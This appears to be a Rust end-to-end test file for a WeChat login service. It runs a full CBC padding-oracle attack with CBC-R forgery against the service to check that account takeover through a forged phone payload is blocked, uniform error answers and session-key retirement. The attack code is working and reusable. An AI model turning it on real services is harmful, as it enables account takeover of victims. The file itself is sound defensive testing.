//! The legacy payloads are AES-128-CBC with no MAC. An answer that tells bad padding
//! from any later failure is a padding oracle: with one ordinary login and some
//! thousands of requests, an attacker who never learns the session key builds (CBC-R)
//! a phone payload naming a victim's number, and the phone match hands over the
//! victim's account. These tests run that attack, and the profile variant, against the
//! service.

use miniauth_domain::crypto::{encode_base64, encrypt_payload};
use miniauth_e2e::{on_both_engines, random_phone, spawn_app, Answer, Engine, TestApp, APP};
use miniauth_wechat::sim::Endpoint;
use serde_json::{json, Value};

on_both_engines!(
    padding_oracle_forges_a_phone_payload_and_takes_over_the_victims_account,
    payload_answers_tell_bad_padding_from_bad_json,
    profile_payload_oracle_behind_a_replayed_signature,
    a_session_key_answers_guesses_without_limit,
);

/// What the oracle answers an attacker, or why it stopped answering.
#[derive(Debug)]
enum Oracle {
    /// Good padding (the request failed later, at the JSON or the watermark).
    Good,
    /// Bad padding.
    Bad,
    /// The service stopped playing: the session was retired, the ticket refused.
    Blocked(String),
}

/// The attacker: a WeChat user of their own, a ticket of their own login, and the
/// phone route as the oracle.
struct Attacker<'a> {
    app: &'a TestApp,
    ticket: String,
    /// The answer to a payload whose padding is almost surely wrong.
    bad_padding: (u16, String),
    requests: usize,
}

fn code_of(answer: &Answer) -> String {
    answer.body["code"].as_str().unwrap_or_default().to_owned()
}

impl<'a> Attacker<'a> {
    async fn new(app: &'a TestApp) -> Self {
        let me = app.wechat_user(None).await;
        let ticket = app.ticket(APP, me).await;
        let mut attacker = Self {
            app,
            ticket,
            bad_padding: (0, String::new()),
            requests: 0,
        };
        // Calibrate: random bytes have bad padding 255 times in 256; twice to be sure.
        let first = attacker.send(rand::random(), rand::random()).await;
        let second = attacker.send(rand::random(), rand::random()).await;
        assert_eq!(first, second, "calibration");
        attacker.bad_padding = first;
        attacker
    }

    async fn send(&mut self, iv: [u8; 16], block: [u8; 16]) -> (u16, String) {
        self.requests += 1;
        let body = json!({ "ticket": self.ticket, "encrypted_data": encode_base64(&block),
                           "iv": encode_base64(&iv) });
        let answer = self.app.phone(APP, &body).await;
        (answer.status.as_u16(), code_of(&answer))
    }

    async fn ask(&mut self, iv: [u8; 16], block: [u8; 16]) -> Oracle {
        let (status, code) = self.send(iv, block).await;
        if (status, code.as_str()) == (self.bad_padding.0, self.bad_padding.1.as_str()) {
            Oracle::Bad
        } else if status == 400 && !code.contains("session") && !code.contains("ticket") {
            // A different refusal of the content: the padding was right.
            Oracle::Good
        } else {
            Oracle::Blocked(format!("{status} {code}"))
        }
    }

    /// D_K(block), byte by byte from the last: the iv that makes the padding right
    /// reveals one byte of the block's decryption.
    async fn decryption_of(&mut self, block: [u8; 16]) -> Result<[u8; 16], String> {
        let mut inter = [0u8; 16];
        for j in (0..16).rev() {
            let pad = (16 - j) as u8;
            let mut found = None;
            for guess in 0..=255u8 {
                let mut iv = [0u8; 16];
                for k in j + 1..16 {
                    iv[k] = inter[k] ^ pad;
                }
                iv[j] = guess;
                match self.ask(iv, block).await {
                    Oracle::Bad => continue,
                    Oracle::Blocked(why) => return Err(why),
                    Oracle::Good => {}
                }
                if j == 15 {
                    // Rule out a longer padding that happened to be right.
                    let mut check = iv;
                    check[14] ^= 0xff;
                    match self.ask(check, block).await {
                        Oracle::Good => {}
                        Oracle::Bad => continue,
                        Oracle::Blocked(why) => return Err(why),
                    }
                }
                found = Some(guess);
                break;
            }
            let guess = found.ok_or_else(|| "no guess fit the padding".to_owned())?;
            inter[j] = guess ^ pad;
        }
        Ok(inter)
    }

    /// CBC-R: ciphertext and iv that decrypt to `plaintext` under a key never seen.
    async fn forge(&mut self, plaintext: &[u8]) -> Result<(String, String), String> {
        let pad = 16 - plaintext.len() % 16;
        let mut padded = plaintext.to_vec();
        padded.extend(std::iter::repeat_n(pad as u8, pad));
        let blocks: Vec<[u8; 16]> = padded
            .chunks(16)
            .map(|c| c.try_into().expect("16 bytes"))
            .collect();
        let mut cipher: Vec<[u8; 16]> = vec![rand::random()];
        for plain in blocks.iter().rev() {
            let inter = self.decryption_of(cipher[0]).await?;
            let mut previous = [0u8; 16];
            for k in 0..16 {
                previous[k] = inter[k] ^ plain[k];
            }
            cipher.insert(0, previous);
        }
        let iv = cipher.remove(0);
        Ok((encode_base64(&cipher.concat()), encode_base64(&iv)))
    }
}

/// The full attack: the victim has an account with a phone; the attacker forges a
/// phone payload naming it, through the oracle, and sends it with their own ticket.
/// Against the code before the defence it took about 17,000 requests (50 s in a debug
/// build), and the phone match answered the victim's tokens.
async fn padding_oracle_forges_a_phone_payload_and_takes_over_the_victims_account(engine: Engine) {
    let app = spawn_app(engine).await;
    // The victim: a user of the business with a phone, not (yet) on WeChat in this app.
    let victims_phone = random_phone();
    let (victim, _, _) = app.password_user(Some(&victims_phone)).await;
    let mut attacker = Attacker::new(&app).await;

    let plaintext = json!({ "purePhoneNumber": victims_phone, "countryCode": "86",
                            "watermark": { "appid": APP, "timestamp": chrono::Utc::now().timestamp() } })
    .to_string();
    let forged = attacker.forge(plaintext.as_bytes()).await;

    let requests = attacker.requests;
    let (encrypted_data, iv) = match forged {
        Err(blocked) => {
            // The oracle went silent before the first byte: a handful of requests.
            assert!(requests <= 8, "{requests} requests before {blocked}");
            return;
        }
        Ok(forged) => forged,
    };
    let taken = app
        .phone(
            APP,
            &json!({ "ticket": attacker.ticket, "encrypted_data": encrypted_data, "iv": iv }),
        )
        .await;
    panic!(
        "the oracle answered {requests} guesses and forged a phone payload; sent, it got {} {} (victim {victim})",
        taken.status, taken.text
    );
}

/// The same session key, three payloads: padding wrong, padding right but not JSON,
/// JSON watermarked for another app. The three answers must be byte for byte the same.
async fn payload_answers_tell_bad_padding_from_bad_json(engine: Engine) {
    let app = spawn_app(engine).await;
    let me = app.wechat_user(Some(&random_phone())).await;
    let ticket = app.ticket(APP, me).await;
    let key = app.session_key(APP, me);
    let iv: [u8; 16] = rand::random();
    let bad_padding = (
        encode_base64(&rand::random::<[u8; 32]>()),
        encode_base64(&iv),
    );
    let not_json = (
        encrypt_payload(&key, &iv, b"not json at all"),
        encode_base64(&iv),
    );
    let foreign = json!({ "purePhoneNumber": "13900000000", "countryCode": "86",
                          "watermark": { "appid": "wx0000000000000000", "timestamp": 0 } });
    let other_app = (
        encrypt_payload(&key, &iv, foreign.to_string().as_bytes()),
        encode_base64(&iv),
    );

    let mut answers = Vec::new();
    for (data, iv) in [bad_padding, not_json, other_app] {
        let answer = app
            .phone(
                APP,
                &json!({ "ticket": ticket, "encrypted_data": data, "iv": iv }),
            )
            .await;
        answers.push((answer.status.as_u16(), answer.text.clone()));
    }
    assert!(
        answers.iter().all(|a| *a == answers[0]),
        "the answers tell the failures apart: {answers:#?}"
    );
    let body: Value = serde_json::from_str(&answers[0].1).unwrap();
    assert_eq!(
        (answers[0].0, &body["code"]),
        (400, &json!("payload_rejected"))
    );
}

/// The profile route: the attacker replays the genuine rawData and signature of their
/// own session (which WeChat gave them) and varies only encryptedData. Checking the
/// signature first does not help; one answer for every failure does.
async fn profile_payload_oracle_behind_a_replayed_signature(engine: Engine) {
    let app = spawn_app(engine).await;
    let me = app.wechat_user(None).await;
    let ticket = app.ticket(APP, me).await;
    let info = app.device.user_info(&app.appid, me).await.unwrap();
    let key = app.session_key(APP, me);
    let iv: [u8; 16] = rand::random();
    let mut answers = Vec::new();
    for data in [
        encode_base64(&rand::random::<[u8; 32]>()),
        encrypt_payload(&key, &iv, b"{\"broken json"),
    ] {
        let answer = app
            .profile(
                APP,
                &json!({ "ticket": ticket, "raw_data": info.raw_data, "signature": info.signature,
                         "encrypted_data": data, "iv": encode_base64(&iv) }),
            )
            .await;
        answers.push((answer.status.as_u16(), answer.text.clone()));
    }
    assert_eq!(answers[0], answers[1], "bad padding and bad JSON differ");
    let body: Value = serde_json::from_str(&answers[0].1).unwrap();
    assert_eq!(body["code"], json!("payload_rejected"));
}

/// Unlimited guesses under one key are what the oracle needs. After the budget (3),
/// the key is spent: WeChat is asked to retire it, and even a genuine payload under it
/// is refused. The user's next wx.login brings a fresh key and finishes the flow.
async fn a_session_key_answers_guesses_without_limit(engine: Engine) {
    let app = spawn_app(engine).await;
    let phone = random_phone();
    let me = app.wechat_user(Some(&phone)).await;
    let ticket = app.ticket(APP, me).await;
    let spent_key = app.session_key(APP, me);
    app.device.reset_calls().await.unwrap();
    let guess = |ticket: &str| {
        json!({ "ticket": ticket, "encrypted_data": encode_base64(&rand::random::<[u8; 32]>()),
                "iv": encode_base64(&rand::random::<[u8; 16]>()) })
    };
    for _ in 0..3 {
        app.phone(APP, &guess(&ticket))
            .await
            .problem(400, "payload_rejected");
    }
    let calls = app.device.calls().await.unwrap();
    assert_eq!(
        calls
            .get(&Endpoint::ResetUserSessionKey)
            .copied()
            .unwrap_or_default(),
        1,
        "{calls:?}"
    );

    // A genuine payload under the spent key, with the ticket of its session: refused.
    let now = chrono::Utc::now().timestamp();
    let genuine = json!({ "phoneNumber": phone, "purePhoneNumber": phone, "countryCode": "86",
                          "watermark": { "appid": APP, "timestamp": now } });
    let iv: [u8; 16] = rand::random();
    let data = encrypt_payload(&spent_key, &iv, genuine.to_string().as_bytes());
    let body = json!({ "ticket": ticket, "encrypted_data": data, "iv": encode_base64(&iv) });
    let refused = app
        .unchanged("a payload under a spent key", || app.phone(APP, &body))
        .await;
    assert!(
        matches!(
            code_of(&refused).as_str(),
            "session_key_spent" | "ticket_session_superseded"
        ),
        "{}",
        refused.text
    );
    assert_ne!(refused.status.as_u16(), 200);

    // The user logs in again and finishes with a payload under the fresh key.
    let ticket = app.ticket(APP, me).await;
    let (data, iv) = app.encrypt_for(APP, me, genuine.to_string().as_bytes());
    app.phone(
        APP,
        &json!({ "ticket": ticket, "encrypted_data": data, "iv": iv }),
    )
    .await
    .ok(200);
}
